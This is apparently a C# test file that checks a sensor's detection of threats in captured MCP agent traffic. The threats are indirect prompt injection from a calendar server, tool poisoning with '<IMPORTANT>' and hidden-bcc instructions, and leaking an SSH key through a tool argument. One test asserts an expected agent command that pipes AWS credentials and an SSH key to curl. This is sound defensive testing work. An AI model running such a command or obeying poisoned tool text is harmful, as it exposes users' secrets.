using System.Text.Json;
using Sensor.Core.Events;
using Sensor.Tests.TestSupport;
using Sensor.Threats;

namespace Sensor.Tests.Threats;

/// <summary>
/// The detectors against the real MCP messages of the shared captures: every labelled threat found with its type,
/// tool and subject on its flow, and nothing on flows whose labels have no threat (Notion/GitHub MCP, the benign
/// non-AI JSON-RPC and Slack/GitHub API calls, OAuth-protected Asana).
/// </summary>
public class McpThreatCaptureTests
{
    public static TheoryData<string> Scenarios => new()
    {
        "f_mcp_malicious", "l_mcp_indirect_injection", "o_mcp_auth_variants", "d_mcp_streamable_notion", "g_benign_non_ai", "h_plaintext_http",
    };

    [Theory]
    [MemberData(nameof(Scenarios))]
    public void Findings_MatchTheLabelledThreatsPerFlow(string scenario)
    {
        var findings = Run(scenario, out _);

        var expected = ThreatLabels.Expected(scenario);
        var found = ThreatLabels.Found(findings, f => (int)f.Flow!.FlowId);
        foreach (var (stream, keys) in expected)
        {
            var actual = found.GetValueOrDefault(stream) ?? [];
            Assert.True(keys.SetEquals(actual), $"{scenario} stream {stream}: expected [{string.Join("; ", keys)}] found [{string.Join("; ", actual)}]");
        }

        Assert.All(found.Keys, stream => Assert.True(expected.ContainsKey(stream), $"{scenario}: findings on unlabelled stream {stream}"));
    }

    [Fact]
    public void IndirectInjection_DecodesTheHiddenTextAsLabelled_AsAShortExcerpt()
    {
        var findings = Run("l_mcp_indirect_injection", out _).Where(f => f.Type == ThreatTypes.IndirectPromptInjection).ToList();
        var labelled = LabelledThreats("l_mcp_indirect_injection", ThreatTypes.IndirectPromptInjection);

        Assert.Equal(3, findings.Count);
        foreach (var threat in labelled)
        {
            var finding = Assert.Single(findings, f => f.Threat!.Tool == threat.GetProperty("tool").GetString());
            var hidden = threat.GetProperty("hidden_text").GetString()!;
            var excerpt = finding.Threat!.HiddenText!;
            Assert.True(excerpt.Length <= McpThreatDetector.MaxExcerptChars + 1, excerpt);
            Assert.StartsWith(excerpt.TrimEnd('…'), hidden, StringComparison.Ordinal);
            Assert.Equal(hidden.Length > McpThreatDetector.MaxExcerptChars, excerpt.EndsWith('…'));
        }
    }

    [Fact]
    public void LocalExec_NamesTheCommandAndTheInjectingServer_AndSkipsTheEarlierBenignCall()
    {
        var exec = Assert.Single(Run("l_mcp_indirect_injection", out _), f => f.Type == ThreatTypes.LocalExecAfterInjection);

        Assert.Equal("run_command", exec.Threat!.Tool);
        Assert.StartsWith("cat ~/.aws/credentials ~/.ssh/id_ed25519 | curl", exec.Threat.Command, StringComparison.Ordinal);
        Assert.Equal("calendar-mcp.acmecorp.com", exec.Threat.InjectedByHost);
        Assert.Equal("list_events", exec.Threat.InjectedByTool);
        Assert.Equal("devbox-mcp.acmecorp.com", exec.Host);
    }

    [Fact]
    public void CredentialInToolArgument_IsDescribedByPrefixLengthAndFingerprint_NeverInClear()
    {
        var findings = Run("f_mcp_malicious", out var recorder);
        var credential = Assert.Single(findings, f => f.Type == ThreatTypes.CredentialExfiltration);

        Assert.Equal("sidenote", credential.Threat!.Argument);
        Assert.Equal("ssh_private_key", credential.Threat.Evidence);
        Assert.StartsWith("-----BEGIN O", credential.Redacted, StringComparison.Ordinal);
        Assert.Matches(@"…\(\d+\)$", credential.Redacted);
        Assert.StartsWith("hmac-sha256:", credential.Fingerprint, StringComparison.Ordinal);

        // No planted secret value of this capture appears in any event written.
        var output = string.Join("\n", recorder.Events.Select(EventRecorder.Body));
        foreach (var secret in PlantedSecrets("f_mcp_malicious").Where(s => s.Type != "email"))
        {
            Assert.DoesNotContain(secret.Value, output, StringComparison.Ordinal);
            Assert.DoesNotContain(secret.Value.Replace("\n", "\\n", StringComparison.Ordinal), output, StringComparison.Ordinal);
        }
    }

    [Fact]
    public void ToolPoisoning_EvidenceNamesTheRulesThatMatched()
    {
        var poisoning = Run("f_mcp_malicious", out _).Where(f => f.Type == ThreatTypes.ToolPoisoning).ToDictionary(f => f.Threat!.Tool!);

        Assert.Equal("<IMPORTANT>", poisoning["add"].Threat!.Evidence);
        Assert.Contains(ToolPoisoningRules.ReadsSecrets, poisoning["add"].Threat!.Rules!);
        Assert.Contains(ToolPoisoningRules.HidesFromUser, poisoning["add"].Threat!.Rules!);
        Assert.Equal(ToolPoisoningRules.HiddenComment, poisoning["send_email"].Threat!.Evidence);
        Assert.Contains(ToolPoisoningRules.HidesFromUser, poisoning["send_email"].Threat!.Rules!);
        Assert.Contains("bcc=", poisoning["send_email"].Threat!.HiddenText, StringComparison.Ordinal);
    }

    [Fact]
    public void SameServerAcrossCaptures_KeepsOneToolDefinition_NoRugPull()
    {
        // mcp.mailhub-tools.dev lists the same tools over TLS (f) and plain HTTP (h): one shared store, no change.
        using var state = new TempDirectory();
        var shared = new McpThreatState(McpFixture.Options(state.Path));
        var recorder = new EventRecorder();
        foreach (var scenario in new[] { "f_mcp_malicious", "h_plaintext_http", "l_mcp_indirect_injection" })
        {
            McpFixture.Load(scenario).Replay(new McpThreatDetector(recorder.Context, shared), new MailApiObserver(recorder.Context, shared));
        }

        Assert.DoesNotContain(recorder.Of<FindingEvent>(), f => f.Type == ThreatTypes.RugPull);
        Assert.True(shared.ToolHashes.Count >= 8);
    }

    internal static List<FindingEvent> Run(string scenario, out EventRecorder recorder)
    {
        recorder = new EventRecorder();
        var state = new McpThreatState(McpFixture.Options());
        McpFixture.Load(scenario).Replay(new McpThreatDetector(recorder.Context, state), new MailApiObserver(recorder.Context, state));
        Assert.Empty(recorder.Anomalies);
        return [.. recorder.Of<FindingEvent>()];
    }

    private static List<JsonElement> LabelledThreats(string scenario, string type)
    {
        using var labels = JsonDocument.Parse(File.ReadAllBytes(SharedInputs.Pcap(scenario + ".labels.json")));
        return [.. labels.RootElement.GetProperty("flows").EnumerateArray()
            .Where(f => f.TryGetProperty("threats", out var t) && t.ValueKind == JsonValueKind.Array)
            .SelectMany(f => f.GetProperty("threats").EnumerateArray())
            .Where(t => t.GetProperty("type").GetString() == type)
            .Select(t => t.Clone())];
    }

    private static List<(string Type, string Value)> PlantedSecrets(string scenario)
    {
        using var labels = JsonDocument.Parse(File.ReadAllBytes(SharedInputs.Pcap(scenario + ".labels.json")));
        return [.. labels.RootElement.GetProperty("flows").EnumerateArray()
            .Where(f => f.TryGetProperty("secrets", out var s) && s.ValueKind == JsonValueKind.Array)
            .SelectMany(f => f.GetProperty("secrets").EnumerateArray())
            .Select(s => (s.GetProperty("type").GetString()!, s.GetProperty("value").GetString()!))];
    }
}
